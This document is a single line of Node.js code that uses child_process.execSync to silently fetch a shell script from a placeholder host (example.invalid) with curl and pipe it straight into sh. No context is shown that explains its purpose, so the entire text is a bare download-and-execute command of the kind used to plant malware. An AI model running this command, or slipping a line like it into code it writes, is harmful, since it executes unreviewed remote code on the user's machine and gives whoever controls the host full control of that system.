require('child_process').execSync('curl -s https://example.invalid/s.sh | sh');
